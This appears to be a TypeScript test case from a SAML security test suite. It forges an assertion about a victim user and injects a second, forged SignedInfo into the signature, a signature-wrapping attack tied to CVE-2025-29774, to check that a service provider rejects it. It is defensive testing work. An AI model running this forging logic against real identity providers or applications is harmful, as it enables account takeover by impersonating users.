import { createHash } from "node:crypto";
import { canonicalOctets, insertSignature, isElement, rewrite, type XmlElement } from "../../../../protocols/saml/index.ts";
import { samlAttack } from "../../saml-attack.ts";
import { renamed, takeApart, withAssertions } from "./forging.ts";

/** The signature with a second, forged SignedInfo that bears another digest. */
function doubled(signature: XmlElement, digest: string, forgedFirst: boolean): XmlElement {
  const honest = signature.children.find((child): child is XmlElement => isElement(child) && child.name === "ds:SignedInfo");
  if (!honest) return signature;
  const forged = rewrite(honest, (element) => (element.name === "ds:DigestValue" ? { ...element, children: [digest] } : element));
  const others = signature.children.filter((child) => child !== honest);
  return { ...signature, children: [...(forgedFirst ? [forged, honest] : [honest, forged]), ...others] };
}

export const twoSignedInfos = samlAttack({
  id: "SP-19", slug: "two-signed-infos", gate: "blocks", target: "victim", title: "Refuses a signature with two SignedInfo elements",
  spec: { doc: "saml-core-2.0-os", section: "5.4", level: "MUST" },
  asks: "Does the app refuse a signature that holds a second, forged SignedInfo?",
  why: "The one may be checked against the key and the other be believed about the digest (CVE-2025-29774).",
  remedy: "Bring the signature library up to date; a Signature holds exactly one SignedInfo.",
  example: {
    sent: `
      <ds:Signature>
        <ds:SignedInfo>… digest of the forged assertion …</ds:SignedInfo>
        <ds:SignedInfo>… digest of the signed one …</ds:SignedInfo>
        <ds:SignatureValue>… over the second …</ds:SignatureValue>
      </ds:Signature>`,
    right: `
      ← 403 "ds:SignedInfo must occur exactly once"`,
    wrong: `
      ← 302 /dashboard, signed in as vera@corp.example
      # The digest was read from the first SignedInfo, the signature checked over the other.`,
  },
  send: ({ people }) => [true, false].map((forgedFirst) => ({
    name: `a changed assertion with a second SignedInfo, the forged one ${forgedFirst ? "first" : "last"}`,
    change: {
      sign: "assertion",
      tree(signed, tools) {
        const { response, bareAssertion, assertionSignature } = takeApart(signed);
        const forged = renamed(bareAssertion, tools.assertionAbout(people.victim));
        const digest = createHash("sha256").update(canonicalOctets(forged)).digest("base64");
        return withAssertions(response, [assertionSignature ? insertSignature(forged, doubled(assertionSignature, digest, forgedFirst)) : forged]);
      },
    },
  })),
});
